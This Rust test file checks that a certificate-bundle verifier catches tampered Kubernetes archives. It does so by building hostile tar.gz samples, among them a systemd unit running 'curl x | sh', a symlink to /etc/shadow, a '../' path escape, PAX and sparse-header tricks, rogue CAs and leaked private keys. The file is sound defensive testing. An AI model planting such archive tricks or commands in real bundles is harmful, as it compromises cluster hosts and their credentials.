//! `cpgen verify` reads a bundle exactly as `tar xzf` and the servers do: every gzip member,
//! the size tar really reads, no FIFO or device, every certificate of a trust file, and a
//! private key nowhere but in its own key file.

mod util;

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine;
use cpgen::diag::{Code, Diagnostic as Finding};
use cpgen::test_support::{read_archive, Tree};
use cpgen::verify;
use time::macros::datetime;
use time::OffsetDateTime;

/// Inside every certificate's validity (they are issued at 2026-01-01).
const AT: OffsetDateTime = datetime!(2026-02-01 00:00:00 UTC);

const CA: &str = "hosts/kubem00/etc/kubernetes/pki/ca.pem";

/// A cpgen bundle of the `separate-cas` example, as `verify` reads it.
fn bundle_tree(example: &str) -> Tree {
    let plan = util::plan_from(&util::example_text(example));
    let bytes = util::fresh_bundle(&plan).to_tar_gz().unwrap();
    let mut findings = Vec::new();
    let tree = read_archive(bytes.as_slice(), &mut findings);
    assert!(findings.is_empty(), "{findings:?}");
    tree
}

/// The same bundle without `manifest.json`, as one made by hand: every change below would
/// otherwise be caught by the manifest's checksums alone.
fn handmade_tree() -> Tree {
    let mut tree = bundle_tree("separate-cas");
    tree.files.remove("manifest.json");
    tree
}

fn audit(tree: &Tree) -> Vec<Finding> {
    cpgen::test_support::verify_tree(tree, None, AT, Vec::new()).findings
}

fn with_code(findings: &[Finding], code: Code) -> Vec<&Finding> {
    findings.iter().filter(|f| f.code == code).collect()
}

fn text(tree: &Tree, path: &str) -> String {
    String::from_utf8(tree.files[path].data.clone()).unwrap()
}

fn set(tree: &mut Tree, path: &str, data: String) {
    tree.files.get_mut(path).unwrap().data = data.into_bytes();
}

/// A CA certificate of the same name as the bundle's, with a key of its own: what an
/// attacker appends to a trust file.
fn rogue_ca() -> String {
    text(&bundle_tree("separate-cas"), CA)
}

// ---- building archives byte by byte ----

/// A tar header with the name written as is (the tar crate refuses `..` in a name).
fn header(name: &str, size: u64, kind: tar::EntryType, link: Option<&str>) -> tar::Header {
    let mut header = tar::Header::new_ustar();
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    header.set_size(size);
    header.set_entry_type(kind);
    header.set_mode(0o644);
    if let Some(link) = link {
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
    }
    header.set_cksum();
    header
}

/// Tar entries, each header and its padded body, without the end-of-archive marker.
fn tar_entries(files: &[(&str, u32, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, mode, data) in files {
        let mut h = header(name, data.len() as u64, tar::EntryType::Regular, None);
        h.set_mode(*mode);
        h.set_cksum();
        out.extend_from_slice(h.as_bytes());
        out.extend_from_slice(data);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out
}

fn tar_of_tree(tree: &Tree) -> Vec<u8> {
    let files: Vec<(&str, u32, &[u8])> = tree
        .files
        .iter()
        .map(|(path, e)| (path.as_str(), e.mode, e.data.as_slice()))
        .collect();
    tar_entries(&files)
}

const END_OF_ARCHIVE: [u8; 1024] = [0; 1024];

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

fn read(bytes: &[u8]) -> (Tree, Vec<Finding>) {
    let mut findings = Vec::new();
    let tree = read_archive(bytes, &mut findings);
    (tree, findings)
}

/// Every regular file under `dir`, by its path relative to it.
fn files_under(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).unwrap() {
            let entry = entry.unwrap();
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                stack.push(entry.path());
            } else if kind.is_file() {
                let relative = entry.path().strip_prefix(dir).unwrap().to_owned();
                files.insert(
                    relative.to_str().unwrap().to_owned(),
                    std::fs::read(entry.path()).unwrap(),
                );
            }
        }
    }
    files
}

// ---- 1. every gzip member, as tar extracts them ----

/// The bundle in a first gzip member that stops before tar's end-of-archive marker, and a
/// second member that goes on with a replaced ca.pem and an extra unit.
fn two_member_archive(tree: &Tree) -> (Vec<u8>, String) {
    let rogue = rogue_ca();
    let second = [
        tar_entries(&[
            (CA, 0o644, rogue.as_bytes()),
            (
                "hosts/kubem00/etc/systemd/system/evil.service",
                0o644,
                b"[Service]\nExecStart=/bin/sh -c 'curl x | sh'\n",
            ),
        ]),
        END_OF_ARCHIVE.to_vec(),
    ]
    .concat();
    let archive = [gzip(&tar_of_tree(tree)), gzip(&second)].concat();
    (archive, rogue)
}

#[test]
fn a_second_gzip_member_is_read_as_gnu_tar_extracts_it() {
    let tree = bundle_tree("separate-cas");
    let (archive, rogue) = two_member_archive(&tree);
    let (seen, findings) = read(&archive);
    assert_eq!(
        seen.files[CA].data,
        rogue.as_bytes(),
        "the later ca.pem is the one audited"
    );
    assert!(seen
        .files
        .contains_key("hosts/kubem00/etc/systemd/system/evil.service"));
    let duplicates = with_code(&findings, Code::DuplicateEntry);
    assert_eq!(duplicates.len(), 1, "{findings:?}");
    assert_eq!(duplicates[0].file().unwrap_or_default(), CA);
    let report = cpgen::test_support::verify_tree(&seen, None, AT, findings);
    assert!(report.has_errors());
    let unlisted = report.findings.iter().any(|f| {
        f.code == Code::ManifestMismatch
            && f.file().unwrap_or_default() == "hosts/kubem00/etc/systemd/system/evil.service"
    });
    assert!(unlisted, "{}", report.render());

    // GNU tar extracts exactly the tree verify audited.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("b.tar.gz");
    std::fs::write(&path, &archive).unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let status = Command::new("tar")
        .arg("xzf")
        .arg(&path)
        .arg("-C")
        .arg(&out)
        .status()
        .expect("GNU tar runs");
    assert!(status.success());
    let extracted = files_under(&out);
    let audited: BTreeMap<String, Vec<u8>> = seen
        .files
        .iter()
        .map(|(p, e)| (p.clone(), e.data.clone()))
        .collect();
    assert_eq!(
        extracted.keys().collect::<Vec<_>>(),
        audited.keys().collect::<Vec<_>>()
    );
    assert!(
        extracted == audited,
        "the contents differ from what tar extracted"
    );
}

#[test]
fn hostile_entries_in_a_second_member_are_reported() {
    let tree = bundle_tree("separate-cas");
    let mut second = tar_entries(&[("../x", 0o644, b"escaped")]);
    let link = header(
        "hosts/kubem00/etc/kubernetes/pki/link.pem",
        0,
        tar::EntryType::Symlink,
        Some("/etc/shadow"),
    );
    second.extend_from_slice(link.as_bytes());
    second.extend_from_slice(&END_OF_ARCHIVE);
    let archive = [gzip(&tar_of_tree(&tree)), gzip(&second)].concat();
    let (seen, findings) = read(&archive);
    let hostile: Vec<&str> = with_code(&findings, Code::HostileEntry)
        .iter()
        .map(|f| f.file().unwrap_or_default())
        .collect();
    assert_eq!(
        hostile,
        ["../x", "hosts/kubem00/etc/kubernetes/pki/link.pem"],
        "{findings:?}"
    );
    assert_eq!(seen.files.len(), tree.files.len());
}

#[test]
fn trailing_garbage_and_data_after_the_archive_end_are_findings() {
    let plan = util::plan_from(&util::example_text("separate-cas"));
    let clean = util::fresh_bundle(&plan).to_tar_gz().unwrap();
    let (_, findings) = read(&clean);
    assert!(findings.is_empty(), "{findings:?}");

    let garbage = [clean.clone(), b"not gzip, just bytes".to_vec()].concat();
    let (tree, findings) = read(&garbage);
    assert!(!tree.files.is_empty());
    let hostile = with_code(&findings, Code::HostileEntry);
    assert_eq!(hostile.len(), 1, "{findings:?}");
    assert!(
        hostile[0].message.contains("trailing garbage"),
        "{hostile:?}"
    );

    // A whole second archive after the first one's end marker.
    let other = util::fresh_bundle(&plan).to_tar_gz().unwrap();
    let (_, findings) = read(&[clean, other].concat());
    let hostile = with_code(&findings, Code::HostileEntry);
    assert_eq!(hostile.len(), 1, "{findings:?}");
    assert!(hostile[0].message.contains("end-of-archive"), "{hostile:?}");
}

#[test]
fn entries_after_a_lone_zero_block_are_reported_and_not_extracted_as_by_tar() {
    let archive = [
        tar_entries(&[("hosts/a/first.pem", 0o644, b"first")]),
        vec![0; 512],
        tar_entries(&[("hosts/a/hidden.pem", 0o644, b"hidden")]),
        END_OF_ARCHIVE.to_vec(),
    ]
    .concat();
    let (tree, findings) = read(&archive);
    let hostile = with_code(&findings, Code::HostileEntry);
    assert_eq!(hostile.len(), 1, "{findings:?}");
    assert!(hostile[0].message.contains("end-of-archive"), "{hostile:?}");

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("b.tar");
    std::fs::write(&path, &archive).unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let tar = Command::new("tar")
        .arg("xf")
        .arg(&path)
        .arg("-C")
        .arg(&out)
        .output()
        .expect("GNU tar runs");
    assert!(tar.status.success());
    let extracted = files_under(&out);
    assert_eq!(
        extracted.keys().collect::<Vec<_>>(),
        tree.files.keys().collect::<Vec<_>>()
    );
}

// ---- 2. the size tar reads, not the header's ----

/// A PAX extended header whose `size` record overrides the ustar header's.
fn pax_size(size: u64) -> Vec<u8> {
    pax(&[("size", &size.to_string())])
}

#[test]
fn a_pax_size_cannot_carry_an_entry_past_the_file_limit() {
    let size = 40 << 20;
    let mut archive = pax_size(size);
    // The ustar header says 0 bytes; tar reads the PAX size.
    archive.extend_from_slice(
        header("hosts/kubem00/big.pem", 0, tar::EntryType::Regular, None).as_bytes(),
    );
    archive.resize(archive.len() + size as usize, b'A');
    archive.extend_from_slice(&tar_entries(&[(
        "hosts/kubem00/after.pem",
        0o644,
        b"after",
    )]));
    archive.extend_from_slice(&END_OF_ARCHIVE);
    for bytes in [archive.clone(), gzip(&archive)] {
        let (tree, findings) = read(&bytes);
        assert!(!tree.files.contains_key("hosts/kubem00/big.pem"));
        let hostile = with_code(&findings, Code::HostileEntry);
        assert_eq!(hostile.len(), 1, "{findings:?}");
        assert_eq!(
            hostile[0].file().unwrap_or_default(),
            "hosts/kubem00/big.pem"
        );
        assert_eq!(
            tree.files["hosts/kubem00/after.pem"].data, b"after",
            "the entry after it is read where tar finds it"
        );
    }
}

// ---- 3. no FIFO, no device ----

/// Runs cpgen with a deadline, so a read that blocks fails the test instead of hanging it.
fn cpgen_with_deadline(args: &[&str]) -> (i32, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_cpgen"))
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if Instant::now() > deadline {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("cpgen {args:?} still runs after 30 s: it blocks on its input");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    (
        util::code(&out),
        format!("{}{}", util::stdout(&out), util::stderr(&out)),
    )
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(status.success());
}

#[test]
fn a_fifo_or_device_is_refused_without_reading_it() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("bundle.tar.gz");
    mkfifo(&fifo);
    let fifo = fifo.to_str().unwrap();
    for args in [["verify", fifo], ["certs", fifo], ["verify", "/dev/zero"]] {
        let (code, output) = cpgen_with_deadline(&args);
        assert_eq!(code, 1, "{args:?}: {output}");
        assert!(output.contains("CP800"), "{args:?}: {output}");
        assert!(
            output.contains("FIFO, socket or device"),
            "{args:?}: {output}"
        );
    }
}

#[test]
fn a_fifo_inside_a_directory_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("bundle");
    for (path, entry) in &handmade_tree().files {
        let at = root.join(path);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(at, &entry.data).unwrap();
    }
    mkfifo(&root.join("hosts/kubem00/etc/kubernetes/pki/fifo.pem"));
    let (code, output) = cpgen_with_deadline(&["verify", root.to_str().unwrap()]);
    assert_eq!(code, 1, "{output}");
    assert!(
        output.contains("error[CP800]: hosts/kubem00/etc/kubernetes/pki/fifo.pem"),
        "{output}"
    );
}

// ---- 4. every certificate of a trust file ----

#[test]
fn cpgens_own_bundles_carry_nothing_unexpected() {
    for name in ["seed-ha", "separate-cas", "on-masters-vip", "ipv6"] {
        let findings = audit(&bundle_tree(name));
        let unexpected: Vec<&Finding> = findings
            .iter()
            .filter(|f| {
                matches!(
                    f.code,
                    Code::UnexpectedCertificate
                        | Code::LeakedKey
                        | Code::DuplicateEntry
                        | Code::HostileEntry
                )
            })
            .collect();
        assert!(unexpected.is_empty(), "{name}: {unexpected:?}");
        assert!(
            findings.iter().all(|f| f.code == Code::BundleSharedCa),
            "{name}: {findings:?}"
        );
    }
}

#[test]
fn a_rogue_ca_appended_to_one_hosts_ca_pem_is_an_error() {
    let mut tree = handmade_tree();
    assert!(audit(&tree).is_empty(), "{:?}", audit(&tree));
    let trusted = format!("{}{}", text(&tree, CA), rogue_ca());
    set(&mut tree, CA, trusted);
    let findings = audit(&tree);
    let unexpected = with_code(&findings, Code::UnexpectedCertificate);
    assert_eq!(unexpected.len(), 1, "{findings:?}");
    assert_eq!(unexpected[0].file().unwrap_or_default(), CA);
    assert!(
        unexpected[0].message.contains("certificate 2 of the file")
            && unexpected[0]
                .message
                .contains("signs no certificate of the bundle"),
        "{}",
        unexpected[0].message
    );
    assert!(findings
        .iter()
        .all(|f| f.code == Code::UnexpectedCertificate));
}

#[test]
fn a_rogue_ca_in_admin_kubeconfig_data_is_an_error() {
    let mut tree = handmade_tree();
    let path = "admin/admin.kubeconfig";
    let kubeconfig = text(&tree, path);
    let field = "certificate-authority-data: \"";
    let start = kubeconfig.find(field).unwrap() + field.len();
    let end = start + kubeconfig[start..].find('"').unwrap();
    let engine = base64::engine::general_purpose::STANDARD;
    let ca = String::from_utf8(engine.decode(&kubeconfig[start..end]).unwrap()).unwrap();
    let bundle = engine.encode(format!("{ca}{}", rogue_ca()));
    set(
        &mut tree,
        path,
        format!("{}{bundle}{}", &kubeconfig[..start], &kubeconfig[end..]),
    );
    let findings = audit(&tree);
    let unexpected = with_code(&findings, Code::UnexpectedCertificate);
    assert_eq!(unexpected.len(), 1, "{findings:?}");
    assert!(
        unexpected[0]
            .file()
            .unwrap_or_default()
            .starts_with("admin/admin.kubeconfig#")
            && unexpected[0]
                .file()
                .unwrap_or_default()
                .ends_with(".certificate-authority-data"),
        "{}",
        unexpected[0].file().unwrap_or_default()
    );
    assert!(findings
        .iter()
        .all(|f| f.code == Code::UnexpectedCertificate));
}

#[test]
fn a_ca_of_the_bundle_trusted_on_one_host_only_is_an_error() {
    let mut tree = handmade_tree();
    // The front-proxy CA signs a certificate of the bundle, but only kubem00's apiserver
    // would trust it for clients.
    let front_proxy = text(&tree, "hosts/kubem00/etc/kubernetes/pki/front-proxy-ca.pem");
    let trusted = format!("{}{front_proxy}", text(&tree, CA));
    set(&mut tree, CA, trusted);
    let findings = audit(&tree);
    let unexpected = with_code(&findings, Code::UnexpectedCertificate);
    assert_eq!(unexpected.len(), 1, "{findings:?}");
    assert_eq!(unexpected[0].file().unwrap_or_default(), CA);
    assert!(
        unexpected[0]
            .message
            .contains("same trust file on another host"),
        "{}",
        unexpected[0].message
    );
}

#[test]
fn a_leaf_followed_by_its_issuer_is_a_chain_and_anything_else_is_not() {
    let mut tree = handmade_tree();
    let leaf = "hosts/kubem00/etc/kubernetes/pki/apiserver.pem";
    let chain = format!("{}{}", text(&tree, leaf), text(&tree, CA));
    set(&mut tree, leaf, chain);
    assert!(audit(&tree).is_empty(), "{:?}", audit(&tree));

    let stranger = format!("{}{}", text(&tree, leaf), rogue_ca());
    set(&mut tree, leaf, stranger);
    let findings = audit(&tree);
    let unexpected = with_code(&findings, Code::UnexpectedCertificate);
    assert_eq!(unexpected.len(), 1, "{findings:?}");
    assert_eq!(unexpected[0].file().unwrap_or_default(), leaf);
    assert!(
        unexpected[0].message.contains("issuer chain"),
        "{}",
        unexpected[0].message
    );
}

// ---- 5. private keys only in key files ----

fn assert_leak_only(tree: &Tree, file: &str, key: &str) {
    let findings = audit(tree);
    let leaks = with_code(&findings, Code::LeakedKey);
    assert_eq!(leaks.len(), 1, "{findings:?}");
    assert_eq!(leaks[0].file().unwrap_or_default(), file);
    // The finding names the file, never the key.
    let body: Vec<&str> = key.lines().filter(|l| !l.starts_with("-----")).collect();
    let rendered = verify::VerifyReport {
        findings: findings.clone(),
        ..Default::default()
    }
    .render();
    assert!(
        body.iter().all(|line| !rendered.contains(line)),
        "{rendered}"
    );
}

#[test]
fn a_ca_key_appended_to_ca_pem_is_a_leak() {
    let mut tree = handmade_tree();
    let key = text(&tree, "hosts/kubem00/etc/kubernetes/pki/ca-key.pem");
    let leaked = format!("{}{key}", text(&tree, CA));
    set(&mut tree, CA, leaked);
    assert_leak_only(&tree, CA, &key);
}

#[test]
fn a_key_pasted_into_the_readme_is_a_leak() {
    let mut tree = handmade_tree();
    let key = text(&tree, "hosts/kubem00/etc/kubernetes/pki/sa.key");
    let readme = format!(
        "{}\nthe service-account key, for reference:\n\n{key}",
        text(&tree, "README.md")
    );
    set(&mut tree, "README.md", readme);
    tree.files.get_mut("README.md").unwrap().mode = 0o600;
    assert_leak_only(&tree, "README.md", &key);
}

#[test]
fn a_key_embedded_in_a_hosts_kubeconfig_is_a_leak() {
    let mut tree = handmade_tree();
    let path = "hosts/kubem00/var/lib/kube-scheduler/kubeconfig";
    let key = text(
        &tree,
        "hosts/kubem00/var/lib/kube-scheduler/pki/scheduler-key.pem",
    );
    let embedded = text(&tree, path).replace(
        "client-key: \"/var/lib/kube-scheduler/pki/scheduler-key.pem\"",
        &format!(
            "client-key-data: \"{}\"",
            base64::engine::general_purpose::STANDARD.encode(&key)
        ),
    );
    assert!(embedded.contains("client-key-data"));
    set(&mut tree, path, embedded);
    tree.files.get_mut(path).unwrap().mode = 0o600;
    assert_leak_only(&tree, path, &key);
}

#[test]
fn a_key_base64_encoded_in_a_deploy_file_is_a_leak() {
    let mut tree = handmade_tree();
    let path = "deploy/ansible/host_vars/kubem00.yml";
    let key = text(&tree, "hosts/kubem00/etc/kubernetes/pki/ca-key.pem");
    let wrapped: String = base64::engine::general_purpose::STANDARD
        .encode(&key)
        .as_bytes()
        .chunks(76)
        .map(|line| format!("  {}\n", String::from_utf8_lossy(line)))
        .collect();
    let yaml = format!("{}ca_key: |\n{wrapped}", text(&tree, path));
    set(&mut tree, path, yaml);
    assert_leak_only(&tree, path, &key);
}

// ---- 6. what tar applies beyond names and bytes ----

/// A PAX extended header of `records` (`key=value`), for the entry that follows.
fn pax(records: &[(&str, &str)]) -> Vec<u8> {
    let mut body = String::new();
    for (key, value) in records {
        let record_body = format!(" {key}={value}\n");
        let mut length = record_body.len() + 1;
        while format!("{length}{record_body}").len() != length {
            length += 1;
        }
        body.push_str(&format!("{length}{record_body}"));
    }
    let mut out = header(
        "PaxHeaders/x",
        body.len() as u64,
        tar::EntryType::XHeader,
        None,
    )
    .as_bytes()
    .to_vec();
    out.extend_from_slice(body.as_bytes());
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

#[test]
fn a_sparse_entry_tar_renames_is_refused_not_skipped() {
    let tree = bundle_tree("separate-cas");
    let unit = "hosts/kubem00/etc/systemd/system/etcd.service";
    let evil = text(&tree, unit).replace("--client-cert-auth=true", "--client-cert-auth=false");
    // A directory entry by its header; GNU tar extracts it as a file of another name.
    let mut sparse = pax(&[
        ("GNU.sparse.size", &evil.len().to_string()),
        ("GNU.sparse.numblocks", "1"),
        ("GNU.sparse.map", &format!("0,{}", evil.len())),
        ("GNU.sparse.name", unit),
    ]);
    let mut entry = header(
        "hosts/kubem00/etc",
        evil.len() as u64,
        tar::EntryType::Directory,
        None,
    );
    entry.set_cksum();
    sparse.extend_from_slice(entry.as_bytes());
    sparse.extend_from_slice(evil.as_bytes());
    sparse.resize(sparse.len().next_multiple_of(512), 0);
    let archive = gzip(&[tar_of_tree(&tree), sparse, END_OF_ARCHIVE.to_vec()].concat());
    let (_, findings) = read(&archive);
    let hostile = with_code(&findings, Code::HostileEntry);
    assert!(
        hostile.iter().any(|f| f.message.contains("GNU.sparse")),
        "{findings:?}"
    );
}

#[test]
fn owners_special_bits_and_open_directories_are_errors() {
    let tree = bundle_tree("separate-cas");
    let key = "hosts/kubem00/etc/kubernetes/pki/ca-key.pem";
    let unit = "hosts/kubem00/etc/systemd/system/etcd.service";
    let mut body = Vec::new();
    for (path, entry) in &tree.files {
        let mut h = header(path, entry.data.len() as u64, tar::EntryType::Regular, None);
        h.set_mode(if path == unit { 0o6644 } else { entry.mode });
        if path == key {
            h.set_uid(1000);
            h.set_gid(1000);
        }
        h.set_cksum();
        body.extend_from_slice(h.as_bytes());
        body.extend_from_slice(&entry.data);
        body.resize(body.len().next_multiple_of(512), 0);
    }
    let mut dir = header(
        "hosts/kubem00/etc/kubernetes/pki/",
        0,
        tar::EntryType::Directory,
        None,
    );
    dir.set_mode(0o777);
    dir.set_cksum();
    body.extend_from_slice(dir.as_bytes());
    let archive = gzip(&[body, END_OF_ARCHIVE.to_vec()].concat());
    let (read_tree, mut findings) = read(&archive);
    findings.extend(cpgen::test_support::verify_tree(&read_tree, None, AT, Vec::new()).findings);
    let metadata = with_code(&findings, Code::UnsafeMetadata);
    for (file, words) in [
        (key, "uid is 1000"),
        (key, "gid is 1000"),
        (unit, "setuid"),
        (
            "hosts/kubem00/etc/kubernetes/pki",
            "write access for group or others",
        ),
    ] {
        assert!(
            metadata
                .iter()
                .any(|f| f.file().unwrap_or_default() == file && f.message.contains(words)),
            "{file}: {words}: {findings:?}"
        );
    }
    // The archive cpgen writes has none of it.
    assert!(with_code(&audit(&tree), Code::UnsafeMetadata).is_empty());
}

#[test]
fn a_rogue_ca_with_a_leaf_outside_the_bundles_files_or_in_an_openssl_block_is_an_error() {
    let mut tree = handmade_tree();
    let rogue_tree = bundle_tree("separate-cas");
    let rogue = text(&rogue_tree, CA);
    let rogue_leaf = text(
        &rogue_tree,
        "hosts/kubem00/etc/kubernetes/pki/apiserver.pem",
    );
    let trusted = format!("{}{rogue}", text(&tree, CA));
    set(&mut tree, CA, trusted);
    let readme = format!("{}{rogue_leaf}", text(&tree, "README.md"));
    set(&mut tree, "README.md", readme);
    let findings = audit(&tree);
    assert!(
        with_code(&findings, Code::UnexpectedCertificate)
            .iter()
            .any(|f| f.file().unwrap_or_default() == CA),
        "{findings:?}"
    );

    let mut tree = handmade_tree();
    let body = rogue
        .replace("BEGIN CERTIFICATE", "BEGIN TRUSTED CERTIFICATE")
        .replace("END CERTIFICATE", "END TRUSTED CERTIFICATE");
    let trusted = format!("{}{body}", text(&tree, CA));
    set(&mut tree, CA, trusted);
    let findings = audit(&tree);
    assert!(
        with_code(&findings, Code::UnexpectedCertificate)
            .iter()
            .any(
                |f| f.file().unwrap_or_default() == CA && f.message.contains("TRUSTED CERTIFICATE")
            ),
        "{findings:?}"
    );
}

#[test]
fn a_key_pasted_without_its_pem_lines_is_a_leak() {
    let mut tree = handmade_tree();
    let key = text(&tree, "hosts/kubem00/etc/kubernetes/pki/sa.key");
    let body: String = key
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .map(|l| format!("{l}\n"))
        .collect();
    let readme = format!("{}\n{body}", text(&tree, "README.md"));
    set(&mut tree, "README.md", readme);
    assert_leak_only(&tree, "README.md", &key);
    let one_line: String = body.lines().collect();
    let mut tree = handmade_tree();
    let readme = format!("{}\nkey: {one_line}\n", text(&tree, "README.md"));
    set(&mut tree, "README.md", readme);
    assert_leak_only(&tree, "README.md", &key);
}

#[test]
fn kubeconfig_data_wrapped_over_lines_is_read_as_kubectl_reads_it() {
    let mut tree = handmade_tree();
    let path = "admin/admin.kubeconfig";
    let kubeconfig = text(&tree, path);
    let line = kubeconfig
        .lines()
        .find(|l| l.trim_start().starts_with("certificate-authority-data:"))
        .unwrap()
        .to_owned();
    let (key, data) = line.split_once(": ").unwrap();
    let indent = " ".repeat(key.len() - key.trim_start().len() + 2);
    let wrapped: String = data
        .trim_matches('"')
        .as_bytes()
        .chunks(64)
        .map(|chunk| format!("{indent}{}\n", String::from_utf8_lossy(chunk)))
        .collect();
    let block = format!("{key}: |\n{}", wrapped.trim_end_matches('\n'));
    set(&mut tree, path, kubeconfig.replace(&line, &block));
    let findings = audit(&tree);
    assert!(
        with_code(&findings, Code::Unparseable).is_empty(),
        "{findings:?}"
    );
    assert!(
        !findings
            .iter()
            .any(|f| f.file().unwrap_or_default().starts_with(path)),
        "{findings:?}"
    );
}

#[test]
fn a_key_given_as_a_bundle_is_never_quoted() {
    let dir = tempfile::tempdir().unwrap();
    let body: String = (0..40)
        .map(|i| format!("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDR{i:012}\n"))
        .collect();
    let key = format!("-----BEGIN PRIVATE KEY-----\n{body}-----END PRIVATE KEY-----\n");
    let path = dir.path().join("key.pem");
    std::fs::write(&path, &key).unwrap();
    for command in ["verify", "certs"] {
        let out = util::cpgen(&[command, path.to_str().unwrap()]);
        let text = format!("{}{}", util::stdout(&out), util::stderr(&out));
        assert_eq!(util::code(&out), 1, "{text}");
        assert!(text.contains("CP800"), "{text}");
        assert!(
            !text.contains("PRIVATE KEY") && !text.contains("MIIE") && !text.contains("0u1n"),
            "{command} quotes the input: {text}"
        );
    }
}
